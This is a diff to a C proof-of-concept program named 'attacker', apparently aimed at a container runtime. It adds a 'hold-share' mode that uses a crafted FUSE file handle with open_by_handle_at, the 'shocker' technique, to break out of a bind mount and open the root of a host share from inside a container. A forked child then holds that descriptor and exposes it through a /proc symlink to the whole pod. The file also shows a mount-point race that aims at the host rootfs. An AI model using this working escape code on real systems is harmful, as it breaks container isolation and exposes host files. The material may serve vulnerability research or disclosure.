@@ -11,6 +11,17 @@
  *   <ctr>/rootfs/race  -> HOST/rootfs   hulld makes the volume mount points there
  *
  * usage: attacker SHARE SECONDS HOST VICTIM
+ *
+ * The container reaches the share as any root guest process with CAP_DAC_READ_SEARCH
+ * can, without the agent's help (hull-pause leaves nothing at /proc/1/root):
+ *
+ *   attacker hold-share FILE LINK
+ *
+ * opens the share's root directory by FUSE file handle (node id 1, generation 0) through
+ * FILE, a file the agent bound from the share into the container (/etc/hostname), the
+ * "shocker" route out of a bind mount; forks a child that holds that descriptor forever
+ * and makes LINK a symlink to /proc/<child>/fd/<n>, so every process of the pod's PID
+ * namespace (execs included) reaches the share's root through LINK.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -19,6 +30,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <time.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 static char host_etc[4096], host_mounts[4096], host_bind[4096], host_rootfs[4096];
@@ -55,8 +67,49 @@ static void attack(int share, const char *ctr)
 	close(c);
 }
 
+/* FUSE's handle (fs/fuse/inode.c, fuse_encode_fh): node id high and low words, then
+ * the generation; type 0x81 is FILEID_INO64_GEN. The share's root is FUSE_ROOT_ID (1). */
+static int hold_share(const char *file, const char *link)
+{
+	int mnt = open(file, O_RDONLY | O_CLOEXEC);
+	if (mnt < 0) {
+		perror(file);
+		return 1;
+	}
+	struct {
+		struct file_handle h;
+		unsigned int words[3];
+	} handle = { .h = { .handle_bytes = sizeof handle.words, .handle_type = 0x81 },
+		     .words = { 0, 1, 0 } };
+	int root = open_by_handle_at(mnt, &handle.h, O_RDONLY | O_DIRECTORY);
+	if (root < 0) {
+		perror("open_by_handle_at(share root)");
+		return 1;
+	}
+	pid_t child = fork();
+	if (child < 0) {
+		perror("fork");
+		return 1;
+	}
+	if (child == 0) {
+		setsid();
+		for (;;)
+			pause();
+	}
+	char target[64];
+	snprintf(target, sizeof target, "/proc/%d/fd/%d", child, root);
+	unlink(link);
+	if (symlink(target, link) != 0) {
+		perror(link);
+		return 1;
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
+	if (argc == 4 && strcmp(argv[1], "hold-share") == 0)
+		return hold_share(argv[2], argv[3]);
 	if (argc != 5) {
 		fprintf(stderr, "usage: attacker SHARE SECONDS HOST VICTIM\n");
 		return 2;
